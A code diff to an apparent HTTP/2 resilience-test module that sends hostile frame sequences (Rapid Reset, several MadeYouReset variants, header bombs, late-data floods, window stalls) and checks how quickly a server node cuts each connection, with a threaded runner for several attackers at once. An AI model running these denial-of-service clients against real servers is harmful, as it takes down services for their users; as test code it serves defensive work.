@@ -1,6 +1,7 @@
 """Clients of HTTP/2 that mean harm, frame by frame: each breaks a rule, or keeps all of them and serves nothing.
 
 An attack sends until its connection is ended. `attack()` runs one of them again and again and says how long each connection lasted."""
+import dataclasses
 import itertools
 import socket
 import ssl
@@ -46,8 +47,8 @@ def indexed(name, value):
     return b"\x40" + _text(name) + _text(value)
 
 
-def block(path, *more, method="GET", authority=tls.HOST):
-    lines = [(":method", method), (":scheme", "https"), (":path", path), (":authority", authority), *more]
+def block(path, *more, method="GET", authority=tls.HOST, scheme="https"):
+    lines = [(":method", method), (":scheme", scheme), (":path", path), (":authority", authority), *more]
     return b"".join(literal(name, value) for name, value in lines)
 
 
@@ -72,6 +73,7 @@ class Connection:
         self.send(PREFACE + first)
 
     def send(self, data):
+        self._socket.settimeout(30)
         self._socket.sendall(data)
         self.sent += len(data)
 
@@ -113,17 +115,80 @@ def frames_of(data):
 
 # Attacks: generators of what is sent next. A number is a pause in seconds.
 
+def slow_get(stream):
+    """A request for what the origin takes its time to answer, and no cache keeps."""
+    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block(f"/_/body?latency=300ms&cc=no-store&n={stream}"))
+
+
 def rapid_reset():
     """CVE-2023-44487: requests that are taken back at once."""
     for stream in odd():
-        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block(f"/attack?n={stream}")) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+        yield slow_get(stream)
+        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
 
 
 def made_you_reset():
-    """CVE-2025-8671: requests that make the server take them back."""
+    """CVE-2025-8671: requests that make the server take them back, by a window beyond 2^31-1."""
     for stream in odd():
-        wrong = frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7fffffff))
-        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block(f"/attack?n={stream}")) + wrong
+        yield slow_get(stream)
+        yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7fffffff))
+
+
+def made_you_reset_by_malformed():
+    """The same by a second block of fields that is no trailer section."""
+    for stream in odd():
+        yield frame(HEADERS, END_HEADERS, stream, block(f"/_/body?latency=300ms&cc=no-store&n={stream}", method="POST"))
+        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, literal(":path", "/"))
+
+
+def made_you_reset_by_window_0():
+    """The same by a window that grows by nothing."""
+    for stream in odd():
+        yield slow_get(stream)
+        yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
+
+
+def made_you_reset_by_data():
+    """The same by content behind the end."""
+    for stream in odd():
+        yield slow_get(stream)
+        yield frame(DATA, 0, stream, b"x")
+
+
+def made_you_reset_by_headers():
+    """The same by fields behind the end."""
+    for stream in odd():
+        yield slow_get(stream)
+        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, literal("a", "b"))
+
+
+def answered_early():
+    """A request that is refused (421) while its content is still to come, and then reset with NO_ERROR."""
+    return frame(HEADERS, END_HEADERS, 1, block("/1024.bin", scheme="ftp"))
+
+
+def late_data():
+    """Content for a stream that was answered before its end: it is ignored."""
+    yield answered_early()
+    yield 0.2
+    while True:
+        yield frame(DATA, 0, 1, b"x") * 20
+
+
+def late_bombs():
+    """Blocks of fields for such a stream: unpacked and ignored."""
+    yield answered_early()
+    yield 0.2
+    while True:
+        yield frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\x82" * 16000)
+
+
+def late_windows():
+    """Windows of a stream that has ended."""
+    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, block("/1024.bin"))
+    yield 0.2
+    while True:
+        yield frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1000)) * 20
 
 
 def continuation_flood():
@@ -189,33 +254,71 @@ def slow_header():
         yield frame(CONTINUATION, 0, 1, literal("a", "b"))
 
 
+STALLS = 120
+
+
 def window_stall():
     """Answers that may never be sent."""
     yield settings(window=0)
-    for stream in range(1, 200, 2):
+    for stream in range(1, 2 * STALLS, 2):
         yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/102400.bin"))
     while True:
         yield 0.4
         yield frame(PING, 0, 0, b"12345678")
 
 
-# Attack -> what of the connection must be over within so many seconds of its first byte on a node whose timeouts are TIMEOUTS: "ends"
-# itself, or the "streams" of it.
+DRIPS = 20
+
+
+def drip():
+    """Answers that may be sent a little at a time."""
+    yield settings(window=300)
+    streams = range(1, 2 * DRIPS, 2)
+    for stream in streams:
+        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/102400.bin"))
+    for _ in range(3):
+        yield 2.0
+        yield b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 256)) for stream in streams)
+    while True:
+        yield 1.0
+
+
+@dataclasses.dataclass(frozen=True)
+class Expected:
+    """What becomes of a connection on a node whose timeouts are TIMEOUTS."""
+    within: float | None = 10.0  # seconds from its first byte to its end; None: it goes on
+    budget: bool = True          # its budget ends it; not a rule of the protocol, which is broken openly, nor a timeout
+    timeouts: int = 0            # streams or connections that are ended by a timeout, at least
+
+
 TIMEOUTS = {"header": "3s", "write_stall": "3s", "request_body": "3s"}
-FAST, SLOW = 10.0, 15.0
+BY_RULE = Expected(budget=False)
 ATTACKS = {
-    rapid_reset: FAST, made_you_reset: FAST, continuation_flood: FAST, settings_flood: FAST, ping_flood: FAST, empty_frames: FAST,
-    tiny_windows: FAST, priorities: FAST, header_bomb: FAST, translation: FAST, slow_header: SLOW, window_stall: None,
+    rapid_reset: Expected(), made_you_reset: Expected(), made_you_reset_by_malformed: Expected(), made_you_reset_by_window_0: BY_RULE,
+    made_you_reset_by_data: BY_RULE, made_you_reset_by_headers: BY_RULE, late_data: Expected(), late_bombs: Expected(),
+    late_windows: Expected(), continuation_flood: Expected(), settings_flood: Expected(), ping_flood: Expected(), empty_frames: Expected(),
+    tiny_windows: Expected(), priorities: Expected(), header_bomb: Expected(), translation: Expected(),
+    slow_header: Expected(within=15.0, budget=False, timeouts=1), window_stall: Expected(within=15.0, timeouts=STALLS),
+    drip: Expected(within=None, budget=False, timeouts=DRIPS),
 }
 
 
 class Result:
+    """Of all connections of an attack."""
+
     def __init__(self):
-        self.connections = 0
+        self.connections = 0  # that the server ended
+        self.lasting = 0      # that it did not
         self.sent = 0
         self.longest = 0.0
-        self.lasting = 0
         self.errors = []
+
+    def add(self, other):
+        self.connections += other.connections
+        self.lasting += other.lasting
+        self.sent += other.sent
+        self.longest = max(self.longest, other.longest)
+        self.errors += other.errors
 
 
 def strike(node, attack, until):
@@ -227,7 +330,8 @@ def strike(node, attack, until):
             if time.monotonic() > until:
                 break
             if isinstance(step, float):
-                threading.Event().wait(step)
+                if connection.ended(within=step):
+                    raise ConnectionError
             else:
                 connection.send(step)
         ended = connection.ended(within=0.1)
@@ -256,9 +360,23 @@ def besiege(node, attack, seconds, connections=10**9):
     return result
 
 
-def in_background(node, attack, seconds):
-    """A thread that besieges, and where its Result will be."""
-    results = []
-    thread = threading.Thread(target=lambda: results.append(besiege(node, attack, seconds)))
-    thread.start()
-    return thread, results
+class Siege:
+    """Several attackers at once, each with one connection after another, beside what the caller does meanwhile."""
+
+    def __init__(self, node, attack, seconds, attackers=4):
+        self._result = Result()
+        lock = threading.Lock()
+
+        def run():
+            result = besiege(node, attack, seconds)
+            with lock:
+                self._result.add(result)
+
+        self._threads = [threading.Thread(target=run) for _ in range(attackers)]
+        for thread in self._threads:
+            thread.start()
+
+    def result(self):
+        for thread in self._threads:
+            thread.join()
+        return self._result
